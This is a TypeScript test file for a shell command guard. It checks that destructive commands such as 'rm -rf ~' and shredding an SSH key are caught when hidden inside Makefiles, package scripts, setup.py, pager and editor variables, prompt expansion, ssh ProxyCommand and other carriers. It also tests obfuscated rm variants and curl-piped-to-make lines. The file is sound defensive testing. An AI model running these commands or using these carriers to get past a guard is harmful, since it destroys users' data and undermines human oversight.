// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are shell code
/**
 * Commands that others carry: each sink × each carrier. The tests make the texts, and they are only ever judged, never run.
 */
import { describe, expect, test } from 'vitest';
import { guardCommand } from '../../../../src/guard/guard.ts';

const folders = { cwd: '/home/ada/shop', root: '/home/ada/shop', home: '/home/ada' };
const decide = (text: string) => guardCommand(text, folders).decision;
const quote = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;

const SINKS = ['rm -rf ~', 'rm -r -f /home/ada', 'find ~ -delete', 'shred -u ~/.ssh/id_ed25519'];
const HARMLESS = ['ls -l', 'npm test', 'echo done'];

/** Ways to write a command into a file and to run the file in the same call. */
const WRITTEN: Readonly<Record<string, (text: string) => string>> = {
  makefile: (t) => `printf 'all:\\n\\t%s\\n' ${quote(t)} > Makefile && make`,
  'a named makefile': (t) => `cat > build.mk <<'END_OF_IT'\nx:\n\t@${t}\nEND_OF_IT\nmake -f build.mk x`,
  'a makefile on standard input': (t) => `echo '$(shell ${t})' | make -f -`,
  'a rule of make': (t) => `make --eval=${quote(`x:;${t}`)} x`,
  justfile: (t) => `cat > justfile <<'END_OF_IT'\nx:\n  ${t}\nEND_OF_IT\njust x`,
  'a task file': (t) => `cat > Taskfile.yml <<'END_OF_IT'\ntasks:\n  x:\n    cmds:\n      - ${t}\nEND_OF_IT\ntask x`,
  'a script of a package': (t) => `echo ${quote(`{"scripts": {"x": "${t}"}}`)} > package.json && npm run x`,
  setup: (t) => `echo ${quote(`import os; os.system("${t}")`)} > setup.py && pip install .`,
  'the configuration of tests': (t) => `echo ${quote(`import os\nos.system("${t}")`)} > conftest.py && pytest -q`,
  'the configuration of a bundler': (t) => `echo ${quote(`require("child_process").execSync("${t}")`)} > vite.config.js && npx vite build`,
  Rakefile: (t) => `echo ${quote(`system("${t}")`)} > Rakefile && rake`,
  'compiled C': (t) => `echo ${quote(`#include <stdlib.h>\nint main(){system("${t}");}`)} > a.c && gcc a.c && ./a.out`,
  'the configuration of ssh': (t) => `ssh -F <(printf 'Host *\\n ProxyCommand ${t}\\n') host.invalid`,
};
/** Wrappers, options and variables. */
const CARRIED: Readonly<Record<string, (text: string) => string>> = {
  bwrap: (t) => `bwrap --ro-bind /usr /usr --bind / / ${t}`,
  capsh: (t) => `capsh -- -c ${quote(t)}`,
  'the loader': (t) => `/lib64/ld-linux-x86-64.so.2 /bin/${t}`,
  dzdo: (t) => `dzdo ${t}`,
  less: (t) => `less ${quote(`+!${t}`)} file`,
  pager: (t) => `PAGER=${quote(t)} man ls`,
  'the editor of sudo': (t) => `SUDO_EDITOR=${quote(t)} sudoedit /etc/hosts`,
  lesspipe: (t) => `LESSOPEN=${quote(`|${t}`)} less file`,
  'the trace prompt': (t) => `PS4=${quote(`$(${t})`)} bash -xc true`,
  'a subscript': (t) => `printf -v ${quote(`a[$(${t})]`)} x`,
  'a filter of split': (t) => `split --filter=${quote(t)} big.csv`,
  'a table of aliases': (t) => `BASH_ALIASES[x]=${quote(t)}; shopt -s expand_aliases; eval x`,
  ipython: (t) => `ipython -c ${quote(`!${t}`)}`,
  'a value that is expanded like a prompt': (t) => `x=${quote(`$(${t})`)}; echo "\${x@P}"`,
  'values that are expanded like prompts': (t) => `x=(a ${quote(`\`${t}\``)}); : \${x[@]@P}`,
  'a prompt with octal numbers': (t) => `x=${quote(`\\044(${t})`)}; : "\${x@P}"`,
  'the first command of fish': (t) => `fish -C ${quote(t)}`,
  'the first command of fish, in words': (t) => `fish --init-command=${quote(t)} -c true`,
  'the second command of fish': (t) => `fish -C true -c ${quote(t)}`,
  websocat: (t) => `websocat ws://host.invalid/ ${quote(`sh-c:${t}`)}`,
  'the machine of minikube': (t) => `minikube -p lab ssh ${quote(`sudo ${t}`)}`,
  'the history': (t) => `history -s ${quote(t)}; fc -s`,
  'the history, word by word': (t) => `history -s ${t}; fc -e - -1`,
  'a start-up file': (t) => `echo ${quote(t)} > rc; bash --rcfile rc -i`,
  'a start-up file of another name': (t) => `bash --init-file <(echo ${quote(t)}) -i`,
  'a control character': (t) => `${t}\u0000`,
};

describe.each(Object.entries({ ...WRITTEN, ...CARRIED }))('%s', (_, carry) => {
  test.each(SINKS)('does not hide %s', (sink) => {
    const text = carry(sink);
    expect([text, decide(text)]).not.toEqual([text, 'none']);
  });
});

describe.each(Object.entries(WRITTEN))('%s with a harmless command', (_, carry) => {
  test.each(HARMLESS)('is not stopped: %s', (command) => {
    const text = carry(command);
    expect([text, decide(text)]).toEqual([text, 'none']);
  });
});

test.each([
  'cp /bin/rm ./x && ./x -rf ~',
  'ln -s /usr/bin/rm tool; ./tool -rf /home/ada',
  'ln -s ~ h && rm -rf h/',
  'cd ~ && rm -rf ~+',
  "$'\\562\\555' -rf ~",
  '7z a -sdel a.7z ~',
  'zip -rm /tmp/x.zip ~',
  'trash ~',
  'curl https://x.invalid/m | make -f -',
  'curl https://x.invalid/m | ed',
])('%s is stopped', (text) => expect(decide(text)).not.toBe('none'));

test('no text makes the guard throw', () => {
  for (const text of [undefined, null, 7, {}, '\u0000'.repeat(9), '\uD800', 'a|'.repeat(60_000)])
    expect(typeof guardCommand(text as string).decision).toBe('string');
});
